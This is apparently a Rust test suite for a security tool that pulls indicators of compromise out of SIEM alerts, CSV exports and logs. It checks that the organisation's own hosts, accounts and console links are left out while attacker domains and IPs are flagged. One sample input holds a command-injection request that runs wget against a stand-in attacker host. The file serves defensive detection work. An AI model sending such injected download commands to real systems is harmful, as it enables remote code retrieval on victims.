//! What an alert says of whom it is of: their machines, accounts and consoles are not asked about, and tags beside values decide
//! nothing.

use vtriage::ioc::{ExtractOptions, extract};

use crate::cases::only;

const SEEN: &str = "http://evil-host.top/x";

/// All that is listed of a text, ticked or not.
fn listed(text: &str) -> Vec<(String, bool)> {
    let items = extract(text, &ExtractOptions::default()).items;
    items.into_iter().map(|item| (item.indicator.to_string(), item.ticked)).collect()
}

#[test]
fn the_machine_that_reports_is_not_ticked_under_any_name_that_schemas_have_for_it() {
    for text in [
        r#"{"agent":{"hostname":"ws1.acme-works.com","name":"ws1.acme-works.com"}}"#,
        r#"{"host":{"name":"ws1.acme-works.com","hostname":"ws1.acme-works.com","fqdn":"ws1.acme-works.com"}}"#,
        r#"{"observer":{"hostname":"ws1.acme-works.com"}}"#,
        r#"{"device":{"hostname":"ws1.acme-works.com"}}"#,
        r#"{"endpoint":"ws1.acme-works.com"}"#,
        "@timestamp,host.name,url\n2026-01-01,ws1.acme-works.com,-\n2026-01-02,ws1.acme-works.com,-\n",
        "@timestamp,user.domain,url\n2026-01-01,ws1.acme-works.com,-\n2026-01-02,ws1.acme-works.com,-\n",
        "@timestamp,endpoint,url\n2026-01-01,ws1.acme-works.com,-\n2026-01-02,ws1.acme-works.com,-\n",
        "act=blocked dvchost=ws1.acme-works.com",
    ] {
        assert_eq!(listed(text), [("ws1.acme-works.com".to_owned(), false)], "{text}");
    }
    only("host.name=ws1.acme-works.com", &[]);
    only(r#"{"host.name":"ws1.acme-works.com","observer.name":"ws1.acme-works.com"}"#, &[]);
    for text in [
        r#"{"destination":{"domain":"evil-host.top"}}"#,
        r#"{"hostname":"evil-host.top"}"#,
        "hostname,seen\nevil-host.top,2026-01-01\nevil-host.top,2026-01-02\n",
        r#"{"type":"hostname","value":"evil-host.top"}"#,
    ] {
        only(text, &["evil-host.top"]);
    }
    only(r#"{"endpoint":"http://evil-host.top/x"}"#, &[SEEN]);
}

#[test]
fn the_account_that_an_alert_is_of_is_not_ticked() {
    for text in [
        r#"{"userPrincipalName":"bob@acme-works.com"}"#,
        r#"{"actor":{"alternateId":"bob@acme-works.com","type":"User"}}"#,
        r#"{"user":{"name":"bob","domain":"acme-works.com"}}"#,
    ] {
        assert_eq!(listed(text), [("acme-works.com".to_owned(), false)], "{text}");
    }
}

#[test]
fn json_in_a_string_and_in_a_cell_is_read_as_json() {
    let entities = r#"[{"Type":"account","UPNSuffix":"acme-works.com"},{"Type":"url","Url":"http://evil-host.top/x"}]"#;
    let string = entities.replace('"', "\\\"");
    let twice = string.replace('\\', "\\\\").replace("\\\\\"", "\\\\\\\"");
    let expected = [("acme-works.com".to_owned(), false), (SEEN.to_owned(), true)];
    assert_eq!(listed(&format!("{{\"Entities\":\"{string}\"}}")), expected);
    assert_eq!(listed(&format!("{{\"a\":\"{{\\\"Entities\\\":\\\"{twice}\\\"}}\"}}")), expected);
    let cell = entities.replace('"', "\"\"");
    let table = format!("TimeGenerated,Entities\n2026-01-01,\"{cell}\"\n2026-01-02,\"{cell}\"\n");
    assert_eq!(listed(&table), expected);
}

#[test]
fn the_page_of_the_console_that_tells_of_it_is_not_ticked() {
    for page in [
        r#""FalconHostLink":"https://falcon.us-2.crowdstrike.com/activity/detections/1?_cid=abc""#,
        r#""alertLink":"https://portal.azure.com/#view/alert/1""#,
        r#""alertWebUrl":"https://security.microsoft.com/alerts/1?tid=2b1c""#,
        r#""results_link":"https://splunk.acme-works.com/app/search/@go?sid=1""#,
        r#""_links":{"self":{"href":"https://acme-works.okta.com/api/v1/users/1"}}"#,
        r#""_links":{"user":{"href":"https://sso.acme-works.com/api/v1/users/1"}}"#,
        r#""kibana.alert.url":"https://kibana.acme-works.com/app/security/alerts/1""#,
        r#""self":"https://jira.acme-works.com/rest/api/2/issue/1""#,
        r#""threatUrl":"https://threatinsight.proofpoint.com/1/threat/email/2""#,
        r#""user_agent":"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)""#,
    ] {
        only(&format!("{{{page},\"seen\":\"{SEEN}\"}}"), &[SEEN]);
    }
    only(
        &format!(
            "url={SEEN} ref=\"http://www.fortinet.com/ids/VID12\" results_link=https://splunk.acme-works.com/app/1"
        ),
        &[SEEN],
    );
    only("GET /x?c=wget+http://evil-host.top/x HTTP/1.1", &[SEEN]);
    only(r#"{"link":"http://evil-host.top/x"}"#, &[SEEN]);
}

#[test]
fn a_tag_in_place_of_a_type_leaves_the_value_to_its_look() {
    let hash = "7809376fe32e44c957347816a47b3d65";
    for tag in [
        "malware",
        "tool",
        "campaign",
        "actor",
        "service",
        "process",
        "registry",
        "mutex",
        "signature",
        "software",
        "phishing",
    ] {
        only(&format!("indicator,type\n198.51.100.7,{tag}\n198.51.100.8,{tag}\n"), &["198.51.100.7", "198.51.100.8"]);
        only(&format!("url,type\n{SEEN},{tag}\n"), &[SEEN]);
        only(&format!(r#"{{"value":"198.51.100.7","type":"{tag}"}}"#), &["198.51.100.7"]);
        only(&format!("bob,198.51.100.7,{tag}\nbob,198.51.100.7,{tag}\nbob,198.51.100.7,{tag}\n"), &["198.51.100.7"]);
        if tag != "mutex" {
            only(&format!("indicator,type\nevil-host.top,{tag}\n{hash},{tag}\n"), &["evil-host.top", hash]);
            only(&format!(r#"{{"indicator":"evil-host.top","type":"{tag}"}}"#), &["evil-host.top"]);
        }
    }
    only(&format!("indicator,type\nslow.pine.run,mutex\n{hash},mutex\n"), &[]);
    only("indicator,type\ninvoice.one,filename\n1.2.3.4,version\n", &[]);
    only(r#"{"type":"malware","name":"evil.name"}"#, &[]);
}

#[test]
fn the_host_of_a_url_with_a_placeholder_behind_it_is_ticked_and_the_domain_below_one_is_offered() {
    only("hxxps://cdn[.]evil-host[.]top/a/<random>/b.zip", &["cdn.evil-host.top"]);
    only("hxxps://cdn[.]evil-host[.]top/{guid}/b.zip", &["cdn.evil-host.top"]);
    only("hxxp://198[.]51[.]100[.]7/<id>", &["198.51.100.7"]);
    for text in ["hxxps://<victim>.evil-host[.]top/a", "{random}.evil-host[.]top", "https://<user>.evil-host.top/a"] {
        assert_eq!(listed(text), [("evil-host.top".to_owned(), false)], "{text}");
    }
    assert_eq!(listed("https://git.acme-works.com/<user>/a"), [("git.acme-works.com".to_owned(), false)]);
    for text in ["pay[censored]portal.evil-host.top", "m.p[BLOCKED]h.evil-host.top", "ev***il.host.top"] {
        assert_eq!(listed(text), [], "{text}");
    }
}
